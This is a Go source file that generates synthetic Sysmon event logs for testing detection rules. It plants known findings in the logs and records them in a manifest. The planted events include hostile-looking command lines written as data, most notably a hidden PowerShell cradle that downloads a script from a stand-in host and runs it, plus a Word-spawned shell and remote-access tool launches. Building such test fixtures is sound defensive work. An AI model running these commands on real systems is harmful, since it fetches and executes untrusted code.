package gen

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"strconv"
	"time"
)

// Options tune Generate. Exactly one of Size and Records is set.
type Options struct {
	Size         int64     // total bytes of .evtx output to produce (rounded to whole chunks)
	Records      int64     // or: number of records
	Seed         uint64    // 0 means 1
	Rotate       int       // split into this many rotated files (0 or 1: one file)
	Hostile      bool      // hostile strings in command lines and file targets
	FindingEvery int       // records between planted findings (default 20000)
	PerMinute    float64   // benign episodes per minute of log time (default 20)
	Start        time.Time // first event time (default 2026-03-02T08:00:00Z)
	Host         string    // computer name (default WS-SCALE-01.corp.example)

	// OnRecord, when set, sees every record as it is written, with the
	// name of its file.
	OnRecord func(file string, p Placed, ev *Event)
}

// File is an output file: written in order, then the header rewritten.
type File interface {
	io.WriteSeeker
	io.Closer
}

// Sink creates the output files Generate writes, by base name.
type Sink func(name string) (File, error)

// Finding is a planted finding, located so a test can match it exactly.
type Finding struct {
	Rule        string `json:"rule"`
	Image       string `json:"image"`
	Host        string `json:"host"`
	ProcessGUID string `json:"process_guid"`
	RecordID    uint64 `json:"record_id"`
	File        string `json:"file"`
}

// FileSummary is one written file.
type FileSummary struct {
	Name string `json:"name"`
	Summary
}

// Manifest is what Generate wrote; it is also saved as ManifestName.
type Manifest struct {
	Seed     uint64        `json:"seed"`
	Host     string        `json:"host"`
	Records  int64         `json:"records"`
	Bytes    int64         `json:"bytes"`
	Files    []FileSummary `json:"files"`
	Findings []Finding     `json:"findings"`
}

// ManifestName is the sidecar file listing the planted findings.
const ManifestName = "expected.json"

const (
	activeLogName = "Microsoft-Windows-Sysmon%4Operational.evtx"
	archivePrefix = "Archive-Microsoft-Windows-Sysmon%4Operational-"
)

// Generate writes realistic mixed Sysmon traffic with findings planted at
// known places, chunk by chunk (memory does not grow with the output), and
// the expected.json manifest.
func Generate(ctx context.Context, sink Sink, opt Options) (*Manifest, error) {
	if (opt.Size > 0) == (opt.Records > 0) {
		return nil, errors.New("generate: give either a size or a record count")
	}
	if opt.Rotate < 1 {
		opt.Rotate = 1
	}
	if opt.Seed == 0 {
		opt.Seed = 1
	}
	if opt.FindingEvery <= 0 {
		opt.FindingEvery = 20000
	}
	if opt.PerMinute <= 0 {
		opt.PerMinute = 20
	}
	if opt.Start.IsZero() {
		opt.Start = time.Date(2026, 3, 2, 8, 0, 0, 0, time.UTC)
	}
	if opt.Host == "" {
		opt.Host = "WS-SCALE-01.corp.example"
	}
	var perFileChunks int
	var perFileRecords int64
	if opt.Size > 0 {
		total := (opt.Size - int64(opt.Rotate)*fileHeaderSize) / chunkSize
		if total < int64(opt.Rotate) {
			return nil, fmt.Errorf("generate: %d bytes cannot hold %d files of one chunk", opt.Size, opt.Rotate)
		}
		perFileChunks = int(total / int64(opt.Rotate))
		if perFileChunks > 0xffff {
			return nil, fmt.Errorf("generate: %d chunks per file is over the format's 65535; use --rotate", perFileChunks)
		}
	} else {
		perFileRecords = (opt.Records + int64(opt.Rotate) - 1) / int64(opt.Rotate)
	}

	g := &scaleGen{opt: opt, b: newBuilder(NewSchemas(), opt.Seed, opt.Start, "CORP", "alice")}
	g.b.hostile = opt.Hostile
	g.bg = &background{b: g.b, host: opt.Host}
	man := &Manifest{Seed: opt.Seed, Host: opt.Host}
	nextID := uint64(1)
	for fileIdx := 0; fileIdx < opt.Rotate; fileIdx++ {
		name := activeLogName
		if fileIdx < opt.Rotate-1 {
			name = archivePrefix + opt.Start.Add(g.at).Format("2006-01-02-15-04-05") + "-" + strconv.Itoa(fileIdx) + ".evtx"
		}
		f, err := sink(name)
		if err != nil {
			return man, fmt.Errorf("generate: %w", err)
		}
		fs, err := g.file(ctx, f, name, nextID, perFileChunks, perFileRecords, opt.Records-man.Records, man)
		if cerr := f.Close(); err == nil && cerr != nil {
			err = fmt.Errorf("generate: %s: %w", name, cerr)
		}
		if err != nil {
			return man, err
		}
		man.Files = append(man.Files, fs)
		man.Records += int64(fs.Records)
		man.Bytes += fs.Bytes
		nextID = fs.LastID + 1
	}
	if man.Findings == nil {
		man.Findings = []Finding{}
	}
	mf, err := sink(ManifestName)
	if err != nil {
		return man, fmt.Errorf("generate: %w", err)
	}
	enc := json.NewEncoder(mf)
	enc.SetIndent("", "  ")
	enc.SetEscapeHTML(false)
	err = enc.Encode(man)
	if cerr := mf.Close(); err == nil {
		err = cerr
	}
	if err != nil {
		return man, fmt.Errorf("generate: %s: %w", ManifestName, err)
	}
	return man, nil
}

// scaleGen is the state of one Generate run: the event queue carries over
// from file to file, so processes start in one file and end in the next.
type scaleGen struct {
	opt        Options
	b          *builder
	bg         *background
	queue      []ScenarioEvent
	at         time.Duration
	sinceFound int
	planted    int
}

func (g *scaleGen) refill() {
	gap := time.Duration(float64(time.Minute) / g.opt.PerMinute)
	g.at += gap/2 + time.Duration(g.b.rng.Int64N(int64(gap)))
	if g.sinceFound >= g.opt.FindingEvery {
		g.sinceFound = 0
		g.queue = append(g.queue, g.finding(g.at)...)
		return
	}
	g.queue = append(g.queue, g.bg.episode(g.at)...)
}

// file writes one file until its budget (chunks or records) or the total
// record count is reached.
func (g *scaleGen) file(ctx context.Context, f File, name string, firstID uint64, maxChunks int, maxRecords, leftTotal int64, man *Manifest) (FileSummary, error) {
	fs := FileSummary{Name: name}
	wr, err := NewWriter(f, firstID)
	if err != nil {
		return fs, err
	}
	wr.MaxChunks = maxChunks
	var pending *Event
	var pendingSrc ScenarioEvent
	for {
		if g.opt.Records > 0 && (int64(fs.Records) >= maxRecords || int64(fs.Records) >= leftTotal) {
			break
		}
		if fs.Records%1024 == 0 {
			if err := ctx.Err(); err != nil {
				return fs, err
			}
		}
		if pending == nil {
			if len(g.queue) == 0 {
				g.refill()
			}
			pendingSrc = g.queue[0]
			g.queue = g.queue[1:]
			ev := pendingSrc.built
			if ev == nil {
				var err error
				if ev, err = g.b.event(&pendingSrc); err != nil {
					return fs, err
				}
			}
			if ev == nil {
				continue
			}
			pending = ev
		}
		pl, err := wr.Write(pending)
		if errors.Is(err, ErrFileFull) {
			// The record opens the next file: keep it at the queue's head.
			g.pushFront(pendingSrc, pending)
			break
		}
		if err != nil {
			return fs, err
		}
		if g.opt.OnRecord != nil {
			g.opt.OnRecord(name, pl, pending)
		}
		for _, rule := range pendingSrc.rules {
			man.Findings = append(man.Findings, Finding{Rule: rule, Image: pending.Values[4].S, Host: g.opt.Host,
				ProcessGUID: pending.Values[2].G.String(), RecordID: pl.RecordID, File: name})
		}
		if fs.Records == 0 {
			fs.FirstID = pl.RecordID
		}
		fs.Records++
		fs.LastID = pl.RecordID
		g.sinceFound++
		pending = nil
	}
	fs.Chunks = wr.Chunks()
	fs.Bytes = wr.Bytes()
	return fs, wr.Close()
}

// pushFront keeps an already-built record for the next file. The builder
// state it changed (a started or ended process) stays as it is, so the
// record is stored built rather than rebuilt.
func (g *scaleGen) pushFront(src ScenarioEvent, ev *Event) {
	src.built = ev
	g.queue = append([]ScenarioEvent{src}, g.queue...)
}

// finding returns one planted finding episode; the events that must be
// reported carry their rules.
func (g *scaleGen) finding(at time.Duration) []ScenarioEvent {
	g.planted++
	n := strconv.Itoa(g.planted)
	home := `C:\Users\` + g.b.user
	host := g.opt.Host
	step := func() Duration { at += time.Duration(200+g.b.rng.IntN(2000)) * time.Millisecond; return Duration(at) }
	id := func(s string) string { return "f" + n + "-" + s }
	switch g.planted % 5 {
	case 0:
		return []ScenarioEvent{
			{ID: id("word"), Kind: KindProcess, Host: host, At: step(), Image: `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`,
				CommandLine: `"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "` + home + `\Downloads\order-` + n + `.docm"`},
			{ID: id("cmd"), Kind: KindProcess, Host: host, At: step(), Parent: id("word"), Image: `C:\Windows\System32\cmd.exe`,
				CommandLine: `cmd.exe /c whoami /all`, rules: []string{RuleOfficeShell}},
			{Kind: KindEnd, Host: host, At: step(), Process: id("cmd")},
			{Kind: KindEnd, Host: host, At: step(), Process: id("word")},
		}
	case 1:
		img := home + `\Downloads\AnyDesk.exe`
		return []ScenarioEvent{
			{ID: id("rat"), Kind: KindProcess, Host: host, At: step(), Image: img, CommandLine: `"` + img + `"`,
				rules: []string{RuleRATLaunch, RuleUserDirExe}},
			{Kind: KindEnd, Host: host, At: step(), Process: id("rat")},
		}
	case 2:
		img := home + `\Desktop\invoice-` + n + `.exe`
		return []ScenarioEvent{
			{ID: id("exe"), Kind: KindProcess, Host: host, At: step(), Image: img, CommandLine: `"` + img + `"`,
				rules: []string{RuleUserDirExe}},
			{Kind: KindEnd, Host: host, At: step(), Process: id("exe")},
		}
	case 3:
		chrome := `C:\Program Files\Google\Chrome\Application\chrome.exe`
		return []ScenarioEvent{
			{ID: id("chrome"), Kind: KindProcess, Host: host, At: step(), Image: chrome},
			{ID: id("ps"), Kind: KindProcess, Host: host, At: step(), Parent: id("chrome"),
				Image:       `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
				CommandLine: `powershell.exe -nop -w hidden -c "iwr https://cdn.example.net/u` + n + `.ps1 | iex"`, rules: []string{RuleOfficeShell}},
			{Kind: KindEnd, Host: host, At: step(), Process: id("ps")},
			{Kind: KindEnd, Host: host, At: step(), Process: id("chrome")},
		}
	default:
		return []ScenarioEvent{
			{ID: id("tvs"), Kind: KindProcess, Host: host, At: step(), User: systemUser,
				Image: `C:\Program Files\TeamViewer\TeamViewer_Service.exe`, CommandLine: `"C:\Program Files\TeamViewer\TeamViewer_Service.exe"`},
			{ID: id("tv"), Kind: KindProcess, Host: host, At: step(), Parent: id("tvs"), User: g.b.defaultUser(),
				Image: `C:\Program Files\TeamViewer\TeamViewer.exe`, CommandLine: `"C:\Program Files\TeamViewer\TeamViewer.exe" --id ` + n,
				rules: []string{RuleRATLaunch}},
			{Kind: KindEnd, Host: host, At: step(), Process: id("tv")},
			{Kind: KindEnd, Host: host, At: step(), Process: id("tvs")},
		}
	}
}
